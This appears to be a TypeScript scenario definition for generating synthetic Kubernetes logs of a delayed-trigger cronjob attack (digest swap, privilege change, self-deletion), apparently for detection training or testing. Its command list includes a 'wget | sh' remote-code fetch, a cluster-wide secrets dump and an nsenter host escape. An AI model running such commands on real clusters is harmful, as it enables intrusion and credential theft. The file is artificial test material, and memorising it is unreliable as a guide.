import { closing } from '../../fragments/closing.ts'
import { entry } from '../../fragments/entry.ts'
import { sideFact } from '../../fragments/side-fact.ts'
import { ordinaryCluster } from '../../fragments/ordinary-cluster.ts'
import { errand } from '../../fragments/errand.ts'
import { defineScenario } from '../../scenario.ts'

export default defineScenario({
  risk: 'Delayed or Timed Trigger Attacks',
  title: 'a job of a cluster that was asleep',
  clues: [
    'The job {name} is made suspended and wakes {hours} h later without a request by a person.',
    'The tag {tag} means another digest at the run than at the making.',
    'The environment of the job holds an offset that it waits for.',
    'In its run it uses an account other than the one it was made with.',
    'It deletes itself, so that no history of the run remains.',
  ],
  steps: (story) => {
    const { make, either, pick, whole, chance } = story
    const name = pick('n', ['schedule-kit', 'report-roll', 'cleanup-temp', 'image-prune', 'cert-scan'])
    const tag = pick('tag', ['stable', 'latest', '1.4', 'prod'])
    const first = make.digest('first')
    const second = either(make.digest('second'), first)
    const hours = whole('h', 5, 90)
    const image = `${make.insideHost('reg')}/jobs/${name}:${tag}`
    story.note('name', name)
    story.note('tag', tag)
    story.note('hours', hours)
    return [
      ordinaryCluster(story, 'a', 1),
      entry(
        'apiserver',
        'request',
        {
          user: make.user('dev'),
          verb: 'create',
          resource: 'cronjobs',
          name,
          status: 201,
          suspend: either(true, false),
        },
        [
          'audit: {user} {verb} {resource}/{name} {status} suspend={suspend}',
          '{name} made by {user}, suspend={suspend}',
        ],
      ),
      entry('registry', 'resolve', { image, digest: first, signed: true, by: 'admission' }, [
        '{image} is {digest}, signed={signed}',
        'tag {image} -> {digest}',
      ]),
      entry(
        'cronjob',
        'spec',
        {
          name,
          schedule: either('@once', '0 2 * * *'),
          env: either(`START_OFFSET=${hours * 3600}`, 'KEEP_DAYS=14'),
          service_account: 'batch-runner',
          history: sideFact(story, 'history', 0, 3),
        },
        ['{name} {schedule} env {env} account {service_account}', '{name}: history {history}, env {env}'],
      ),
      chance('test', 0.6)
        ? entry(
            'kubelet',
            'pod_state',
            { pod: make.id('t', name), state: 'Completed', rc: 0, output: 'self-test passed, waiting' },
            ['{pod} {state} rc={rc}: {output}', '{output}'],
          )
        : undefined,
      ordinaryCluster(story, 'b', 2),
      entry(
        'registry',
        either('push', 'head'),
        {
          image,
          digest: second,
          by: either('robot$' + name, 'mirror-check'),
          signed: sideFact(story, 'signed', false, true),
        },
        [
          '{image} {digest} by {by} signed={signed}',
          `{image} ${either('points to', 'still points to')} {digest}`,
        ],
        [9000, 90000],
      ),
      ordinaryCluster(story, 'c', 1),
      entry(
        'apiserver',
        'request',
        {
          user: either('system:serviceaccount:batch:' + name, 'system:cronjob-controller'),
          verb: either('patch', 'create'),
          resource: either('cronjobs', 'jobs'),
          name,
          status: 200,
          suspend: false,
        },
        ['audit: {user} {verb} {resource}/{name} {status} suspend={suspend}', '{name} {verb} by {user}'],
        [9000, 90000],
      ),
      entry(
        'kubelet',
        'image',
        {
          image,
          digest: second,
          expected: first,
          pull: either('Always', 'IfNotPresent'),
          result: either('pulled anew', 'already present'),
        },
        [
          '{image} {digest} expected {expected}: {result}',
          `{image}: ${either('another digest than before', 'digest unchanged')}`,
        ],
        3,
      ),
      entry(
        'containerd',
        'start',
        {
          pod: make.id('r', name),
          uid: either(0, 65532),
          service_account: either('cluster-ops', 'batch-runner'),
          cgroup: '/kubepods.slice/' + make.id('cg'),
        },
        [
          '{pod} started uid={uid} account={service_account}',
          '{pod} runs as uid {uid} with {service_account}',
        ],
        2,
      ),
      entry(
        'audit',
        'exec',
        {
          pod: make.id('r', name),
          pid: make.pid('x'),
          uid: either(0, 65532),
          cmd: either(
            pick('c', [
              '/bin/sh -c "wget -qO- $U | sh"',
              'kubectl get secrets -A -o yaml',
              'nsenter -t 1 -m sh',
            ]),
            '/app/prune --older-than 14d',
          ),
          rc: 0,
        },
        ['{cmd} uid={uid} rc={rc}', '{pod}: {cmd}'],
        2,
      ),
      entry(
        'apiserver',
        'request',
        {
          user: either('system:serviceaccount:batch:cluster-ops', 'system:serviceaccount:batch:batch-runner'),
          verb: either('list', 'delete'),
          resource: either('secrets', 'pods (completed)'),
          name: '*',
          status: 200,
          suspend: false,
        },
        ['audit: {user} {verb} {resource} {status}', '{user} {verb} {resource}'],
        2,
      ),
      entry(
        'netflow',
        'connection',
        {
          pod: make.id('r', name),
          dst_ip: either(make.outsideAddress('o'), make.insideAddress('api')),
          dst_port: 443,
          bytes_out: either(whole('bo', 90000, 4000000), whole('bs', 900, 9000)),
        },
        ['{pod} -> {dst_ip}:{dst_port} {bytes_out} bytes', 'connection with {dst_ip}: {bytes_out} bytes'],
        2,
      ),
      entry(
        'apiserver',
        'request',
        {
          user: either('system:serviceaccount:batch:' + name, 'system:cronjob-controller'),
          verb: either('delete', 'update'),
          resource: either('cronjobs', 'cronjobs/status'),
          name,
          status: 200,
          suspend: false,
        },
        ['audit: {user} {verb} {resource}/{name} {status}', '{name}: {verb} by {user}'],
        5,
      ),
      ordinaryCluster(story, 'd', 1),
      errand(story),
      closing(story),
    ]
  },
})
